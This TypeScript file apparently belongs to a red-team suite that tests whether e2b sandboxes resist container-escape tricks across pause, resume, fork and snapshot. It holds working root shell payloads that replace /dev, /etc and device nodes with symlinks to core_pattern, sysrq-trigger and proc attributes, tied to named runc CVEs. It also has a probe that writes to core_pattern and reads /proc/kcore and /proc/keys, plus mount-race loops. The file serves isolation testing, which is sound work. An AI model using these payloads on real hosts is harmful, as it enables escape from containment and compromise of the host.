import { setTimeout as sleep } from 'node:timers/promises';
import { Sandbox } from 'e2b';
import { Breach } from '../attempt.ts';
import type { Scene } from '../attempt.ts';
import type { World } from '../world.ts';

/**
 * What root leaves on the disk, in place of what the next start mounts on, writes to or hides. The folders with mounts
 * can be moved away, but no mount itself.
 */
const plants: readonly (readonly [name: string, script: string, pace?: Scene['pace']])[] = [
  [
    'links in place of the device nodes (CVE-2025-31133)',
    `mv /dev /dev.real; mkdir /dev; for name in null zero full random urandom tty; do ln -s /proc/sys/kernel/core_pattern /dev/$name; done`,
    'quick',
  ],
  [
    'a link in place of the console (CVE-2025-52565)',
    `rm -f /dev/console; ln -s /proc/sys/kernel/core_pattern /dev/console; mv /dev/pts /dev/pts.real; ln -s /proc /dev/pts`,
  ],
  ['a link in place of /dev', `mv /dev /dev.real; ln -s /proc/1/root/dev /dev`],
  ['a link in place of /dev/shm', `mv /dev /dev.real; mkdir /dev; ln -s HOST /dev/shm`],
  ['a link in place of /etc', `cp -a /etc /etc.real; mv /etc /etc.old; ln -s ../../../../../../../../HOST /etc`],
  [
    'links in place of files in /etc (CVE-2025-52881)',
    `mv /etc /etc.old; cp -a /etc.old /etc; for name in hosts hostname resolv.conf machine-id; do rm -f /etc/$name; ln -s /proc/self/attr/exec /etc/$name; done`,
  ],
  [
    'links to settings in place of files in /etc',
    `mv /etc /etc.old; cp -a /etc.old /etc; for name in hosts hostname resolv.conf machine-id; do rm -f /etc/$name; ln -s /proc/sysrq-trigger /etc/$name; done`,
  ],
  ['a link in place of /run', `mv /run /run.real; ln -s HOST /run`],
  ['a link in place of /tmp', `mv /tmp /tmp.real; ln -s HOST /tmp`],
  ['a link in place of the folder of envd', `mv /.soulbox /.soulbox.real; ln -s HOST /.soulbox`],
  [
    'a file in place of /home and /usr/bin/bash',
    `rm -rf /home; touch /home; mv /usr/bin/bash /usr/bin/bash.real; ln -s /proc/self/exe /usr/bin/bash`,
  ],
  [
    'folders that are too deep and names that are too long',
    `cd /tmp && for n in $(seq 200); do mkdir -p $(printf 'x%.0s' $(seq 250)) && cd x*; done`,
  ],
];

const probe = `
import os
found = []
for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/kcore', '/proc/keys', '/dev/null/../kmsg'):
  try:
    opened = os.open(path, os.O_WRONLY if 'sys' in path else os.O_RDONLY)
    if 'sys' in path: os.write(opened, b'|/redteam') and found.append(path)
    elif os.read(opened, 16): found.append(path)
  except OSError: pass
print('FOUND', found)
for path in ('/etc/file', '/run/file', '/tmp/file', '/dev/shm/file', '/.soulbox/file'):
  try: print(open(path).read())
  except OSError: pass
`;

/** Links that are there before the start: none means that not even planting them was possible. */
async function countLinks(sandbox: Sandbox): Promise<string> {
  const paths = '/dev /dev/null /dev/console /dev/shm /dev/pts /etc /etc/hosts /run /tmp /.soulbox /usr/bin/bash';
  const list = `import os, sys; print([path for path in sys.argv[1:] if os.path.islink(path)])`;
  return await sandbox.commands.run(`python3 -c "${list}" ${paths}`, { user: 'root' }).then(
    ({ stdout }) => `planted ${stdout.trim()}`,
    (error: unknown) => `planted, then no command ran (${String(error).slice(0, 100)})`,
  );
}

/** A start on these files either works behind all walls, or it fails and is reported. */
async function startOn(world: World, script: string): Promise<string> {
  const { target, host } = world;
  return await world.withSandbox(async (sandbox) => {
    const folder = host.file.replace(/\/[^/]+$/, '');
    await sandbox.files.write('/root/probe.py', probe, { user: 'root' });
    const text = `set +e\n${script.replaceAll('HOST', folder)}\n`;
    await sandbox.files.write('/root/plant.sh', text, { user: 'root' });
    await sandbox.commands.run('bash /root/plant.sh; sync; true', { user: 'root' }).catch(() => undefined);
    const planted = await countLinks(sandbox);
    await sandbox.pause({ keepMemory: false });
    const started = await sandbox.connect().then(
      () => '',
      (error: unknown) => `the start was refused: ${String(error).slice(0, 200)}`,
    );
    if (started !== '') return `${planted}; ${started}`;
    const output = await sandbox.commands.run('python3 /root/probe.py', { user: 'root', timeoutMs: 10_000 }).then(
      ({ stdout }) => stdout,
      (error: unknown) => String(error),
    );
    if (output.includes(host.word)) throw new Breach('a file of the host is visible');
    const found = /FOUND \[(.+)\]/.exec(output)?.[1];
    // A sandbox's own kernel has its own settings and files.
    if (found !== undefined && !target.ownKernel) throw new Breach(`masks are open: ${found}`);
    return output.includes('FOUND')
      ? `${planted}; it started, and all masks were closed`
      : `${planted}; it started, but ran nothing: ${output.slice(0, 100)}`;
  });
}

/** Folders that change their names while the server saves and restores what is mounted in them. */
async function raceMounts(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    const program = `
import os, time
endAt = time.time() + 60
os.makedirs('/swap', exist_ok=True)
while time.time() < endAt:
  for name in ('/dev', '/etc', '/run'):
    try:
      os.rename(name, name + '.moved')
      os.symlink('/proc/sys/kernel', name)
      os.unlink(name)
      os.rename(name + '.moved', name)
    except OSError: pass`;
    await sandbox.files.write('/root/race.py', program, { user: 'root' });
    await sandbox.commands.run('exec python3 /root/race.py', { background: true, user: 'root', timeoutMs: 0 });
    const outcomes: string[] = [];
    for (let round = 0; round < 4; round += 1) {
      const outcome = await sandbox
        .pause()
        .then(async () => await sandbox.connect())
        .then(
          () => 'resumed',
          () => 'refused',
        );
      outcomes.push(outcome);
      await sleep(50);
    }
    const copies = await sandbox.fork({ count: 2 }).catch(() => []);
    for (const copy of copies) if (!(copy instanceof Error)) await copy.kill();
    return `4 pauses: ${outcomes.join(', ')}; ${copies.length} forks`;
  });
}

async function raceStart(world: World): Promise<string> {
  return await world.withSandbox(async (sandbox) => {
    await sandbox.commands
      .run(`mv /dev /dev.real; mkdir /dev; ln -s /proc/self/attr/current /dev/null`, { user: 'root' })
      .catch(() => undefined);
    const { snapshotId } = await sandbox.createSnapshot();
    try {
      const copies = await Promise.all(
        [1, 2, 3].map(
          async () =>
            await Sandbox.create(snapshotId).then(
              async (copy) => await copy.kill(),
              () => false,
            ),
        ),
      );
      return `3 creates from the snapshot: ${copies.filter((done) => done).length} started, all ended`;
    } finally {
      await Sandbox.deleteSnapshot(snapshotId);
    }
  });
}

const links = { kind: 'scene', wall: 'plantedLinks', by: ['root'] } as const;

export const startUp: readonly Scene[] = [
  ...plants.map(([name, script, pace = 'long']): Scene => ({
    ...{ ...links, pace },
    name: `leaves ${name} for the next start`,
    run: async (world) => await startOn(world, script),
  })),
  { ...links, pace: 'long', name: 'moves folders with mounts during pauses and forks', run: raceMounts },
  { ...links, pace: 'long', name: 'leaves links in place of devices for copies', run: raceStart },
];
